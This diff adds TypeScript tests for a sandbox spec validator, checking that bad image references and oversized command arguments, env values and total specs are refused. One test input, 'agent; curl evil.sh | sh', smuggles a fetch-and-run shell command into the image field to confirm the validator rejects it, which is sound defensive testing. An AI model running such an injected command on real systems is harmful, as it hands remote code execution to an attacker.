@@ -135,3 +135,26 @@ describe("sandboxSpecSchema", () => {
     expect(problems.map((problem) => problem.path)).toEqual([["name"], ["env", 1, "name"], ["disruptionPolicy", "checkpointGracePeriodSeconds"]]);
   });
 });
+
+describe("what a spec may carry into its Sandbox", () => {
+  it("refuses an image that is no image reference, naming the field", () => {
+    expect(specProblems({ image: "agent; curl evil.sh | sh" })).toMatchObject([{ code: "image.invalid-reference", path: ["image"] }]);
+  });
+
+  it("refuses a command of more than 256 arguments", () => {
+    expect(specProblems({ command: Array.from({ length: 257 }, () => "x") })).toMatchObject([{ path: ["command"], message: expect.stringContaining("at most 256 arguments") }]);
+  });
+
+  it("refuses one argument over 32 KiB, naming it", () => {
+    expect(specProblems({ command: ["sh", "-c", "x".repeat(32 * 1024 + 1)] })).toMatchObject([{ path: ["command", 2], message: expect.stringContaining("at most 32 KiB") }]);
+  });
+
+  it("refuses an env value over 32 KiB, naming it", () => {
+    expect(specProblems({ env: [{ name: "BIG", value: "x".repeat(32 * 1024 + 1) }] })).toMatchObject([{ path: ["env", 0, "value"] }]);
+  });
+
+  it("refuses a spec whose parts are each within their limits but together are over 256 KiB", () => {
+    const env = Array.from({ length: 10 }, (_, index) => ({ name: `V${index}`, value: "x".repeat(30 * 1024) }));
+    expect(specProblems({ env })).toMatchObject([{ code: "limit.too-long", path: [], message: expect.stringContaining("more than 256 KiB") }]);
+  });
+});
